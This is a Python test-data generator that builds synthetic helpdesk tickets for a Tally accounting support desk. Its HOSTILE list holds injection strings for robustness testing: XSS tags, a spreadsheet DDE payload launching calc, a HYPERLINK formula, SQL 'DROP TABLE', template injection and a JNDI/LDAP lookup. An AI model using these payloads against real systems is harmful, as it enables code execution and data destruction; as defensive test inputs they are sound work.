"""What people write to a Tally partner's support desk, and what the desk answers."""

PROBLEMS = [  # category, title, description; {n} is a number, {party} a ledger, {v} a version
    ("Technical", "GSTR-1 summary does not match the books", "B2B section shows {n} vouchers less than the sales register. Please check before the 11th."),
    ("Technical", "GSTR-3B export gives an error", "JSON export stops with 'Invalid place of supply' for {party}."),
    ("Technical", "GSTR-2B reconciliation shows uncertain transactions", "{n} purchase bills are under uncertain. ITC is blocked."),
    ("Technical", "e-Invoice not generated, error 2150", "Duplicate IRN error for invoice {n}. Vehicle is waiting at the gate."),
    ("Technical", "e-Invoice login failed", "GSP user id was changed on the portal, now Tally says invalid credentials."),
    ("Technical", "e-Way bill distance not accepted", "Part B is rejected for {party}, distance {n} km."),
    ("Technical", "HSN summary mismatch", "12 digit HSN shown twice in the HSN summary after the upgrade to {v}."),
    ("Technical", "Company data will not open", "Error: Internal error, contact Tally. Data folder {n}. Last backup is a week old."),
    ("Technical", "Tally very slow on multi user", "Server PC is fine, but {n} clients take a minute to open Day Book."),
    ("Technical", "Memory access violation on voucher save", "Comes only on the sales screen since {v}."),
    ("Technical", "Data corrupted after power cut", "UPS failed while posting. Please run a rewrite, {n} vouchers entered today."),
    ("Technical", "Data synchronisation with branch failed", "Branch sees 'Connection refused'. Port 9000 is open as per our IT vendor."),
    ("Software", "TDL customisation not loading", "Invoice format TDL shows license error after updating to {v}."),
    ("Software", "Upgrade from Tally.ERP 9 to TallyPrime", "Need migration of {n} companies to {v} on Saturday."),
    ("Software", "License shows as educational mode", "Reactivation asks for the key, registered e-mail id is not working any more."),
    ("Software", "License renewal not reflecting", "TSS renewed yesterday but F1 > About still shows expired."),
    ("Software", "Surrender of license on old server", "Old PC crashed, license to be moved to the new one."),
    ("Software", "Tally on cloud: session disconnects", "RDP closes every {n} minutes for two users."),
    ("Software", "Tally on cloud: printer not mapped", "Local printer is missing since the cloud VM was restarted."),
    ("Software", "Barcode label alignment", "Label TDL prints 2 mm to the left on the new roll."),
    ("Software", "WhatsApp invoice not sending", "Balance is there, message stays in pending for {party}."),
    ("Software", "Auto backup not running", "No backup since Monday in D:\\TallyBackup. Disk has {n} GB free."),
    ("Software", "Restore of backup asked", "Please restore last month's backup in a separate folder, {n} companies."),
    ("Hardware", "Invoice printing cuts last line", "Dot matrix, 10x12 paper, page {n} only."),
    ("Hardware", "Printer prints blank pages from Tally", "Other software prints well. Happens with {v}."),
    ("Hardware", "New server, shift Tally data", "Windows Server installed, {n} users to be connected."),
    ("Hardware", "Network drive for data not reachable", "Z: drive asks for a password every morning."),
    ("General", "Payroll: PF and ESI calculation", "Employer PF for {n} employees is taken on the old wage limit."),
    ("General", "Payroll: professional tax for February", "PT of Rs 300 for February not picked."),
    ("General", "TDS on purchase 194Q", "Threshold is not considered for {party}."),
    ("General", "Bank reconciliation import", "HDFC statement in Excel does not import, {n} lines rejected."),
    ("General", "e-Payment file format for bank", "Bank rejects the file, says length of IFSC is wrong."),
    ("General", "Year end: split company data", "Please split from 1 April, {n} MB data. Auditor needs both."),
    ("General", "Opening balance difference after split", "Difference of Rs {n} in opening balances."),
    ("General", "Stock valuation FIFO vs average", "Closing stock differs by Rs {n} from the auditor's sheet."),
    ("General", "Budget and cost centre report", "Owner wants a monthly cost centre report for {party}."),
    ("General", "Training for new accountant", "New joiner needs two hours on GST entries."),
    ("General", "User rights: hide cost price", "Counter staff should not see purchase rates."),
    ("Billing", "Quotation for AMC renewal", "Please send a quotation for {n} users with on-site visits."),
    ("Billing", "Invoice copy of last visit", "Need the GST invoice of the last visit for input credit."),
    ("Billing", "TSS charged twice", "Two payments of Rs {n} were debited, one to be returned."),
]
PARTIES = ["Om Sai Agencies", "M/s Rathod & Co", "Jyoti Traders", "Nakoda Metals", "V.K. Suppliers", "Cash customer"]
VERSIONS = ["TallyPrime 4.1", "TallyPrime 5.1", "TallyPrime 6.0", "TallyPrime 6.2", "TallyPrime 7.0"]

FIRST_REPLIES = [
    "Noted, checking. Please keep AnyDesk open.", "Called the customer, looking into it on AnyDesk.",
    "Namaste, we are on it. Please send a screenshot.", "Connected remotely, taking a backup first.",
    "Please share the company data backup.", "Received. Engineer will call within the hour.",
    "Checked on phone, needs a remote session.", "Thank you, we can see the same error here.",
    "Kindly do not enter new vouchers till we confirm.", "नमस्ते, हम देख रहे हैं।",
]
REPLIES = [
    "Rewrite done, verifying the balances.", "Patch installed, please test with one voucher.",
    "Tally support asked for the log, sent.", "Waiting for the portal, GST site is slow today.",
    "TDL corrected and loaded.", "Explained to the accountant on phone.", "Port opened, testing from the branch.",
    "Will visit tomorrow morning.",
]
ASKS = [
    "Please send the OTP of the GST portal.", "Need the data backup from your side.",
    "Please confirm a time when users are out.", "Kindly send the bank's format file.",
    "Please ask your IT vendor to open the port.",
]
CUSTOMER_WORDS = [
    "Sent on mail.", "Ok, you can connect now.", "Accountant is back, please call.", "OTP was wrong, sending again.",
    "Any update? It is urgent.", "Backup uploaded.", "हो गया, धन्यवाद", "Same error again, see screenshot.",
]
CLOSINGS = [
    "Resolved, customer confirmed on phone.", "Working fine now.", "Done and tested with a sample invoice.",
    "Issue solved, please close.", "Shown to the accountant, no more error.",
]
INTERNAL = [
    "Customer's serial is of another partner, check with sales.", "Same as last month, see the old ticket.",
    "Not in AMC, tell before the visit.", "Owner was angry, handle with care.", "Asked Tally, SR raised.",
    "Old TDL, no source with us.", "Payment of last bill is pending.",
]
SOLUTIONS = [
    "Data rewritten, balances verified.", "Portal login reset, IRN generated.", "TDL changed and compiled.",
    "License reactivated.", "Printer driver and page size set.", "Trained the user.", "Migrated and verified trial balance.",
    "Backup schedule created.", "HSN corrected in stock items.", "Firewall rule added on server.",
]
PARTS = [None, None, None, None, "", "LAN cable 5 m", "Pen drive 32 GB"]

HOSTILE = [  # field, text: what a writer or a renderer must survive
    ("description", 'Customer says: "It\'s not \'working\' since 5 o\'clock"\nSecond line, after a newline.\n\tTabbed line.'),
    ("description", "Path is C:\\Users\\Public\\TallyPrime\\data\\n10001\\t, share \\\\SERVER\\tally$"),
    ("title", "<script>alert('GST')</script>"),
    ("description", "<img src=x onerror=alert(1)> & <b>bold</b> &amp; ]]> -->"),
    ("title", '=HYPERLINK("http://example.in/?x="&A1,"Click for refund")'),
    ("description", "+91 98000 00000\n-2+3\n@SUM(1+1)*cmd|' /C calc'!A0"),
    ("title", "टैली में जीएसटी रिटर्न नहीं बन रहा है"),
    ("description", "बिल नंबर १२३ में ₹१,२३,४५६.७८ का फर्क है। कृपया जल्दी देखें 🙏"),
    ("title", "Urgent!!! 🔥 e-invoice band hai 😡 👨‍👩‍👧"),
    ("description", "From the log:\nCOPY public.tickets (id) FROM stdin;\n\\.\n\nSELECT pg_catalog.setval('x', 1);"),
    ("description", "\\."),
    ("title", "Semicolons; commas, \"quotes\", and -- comments /* here */"),
    ("description", "Zero-width\u200bspace, no-break\u00a0space, right-to-left \u202eoverride, BOM \ufeffinside, bell \u0007 and CRLF\r\nend"),
    ("title", "  leading and trailing blanks  "),
    ("description", "'; DROP TABLE tickets; -- {{7*7}} ${jndi:ldap://example.in/a} %s %n"),
    ("title", "\\N"),
    ("description", "NULL"),
    ("title", "O'Brien & Sons: \"Rs. 1,00,000\" 100% paid \u2014 na\u00efve caf\u00e9 \u00e9 e\u0301"),
]


def problem(dice):
    """Category, title and description of a new ticket."""
    category, title, description = dice.pick(PROBLEMS)
    description = description.format(n=dice.whole(2, 60), party=dice.pick(PARTIES), v=dice.pick(VERSIONS))
    if dice.chance(0.03):
        category = None
    return category, title, None if dice.chance(0.04) else "" if dice.chance(0.03) else description
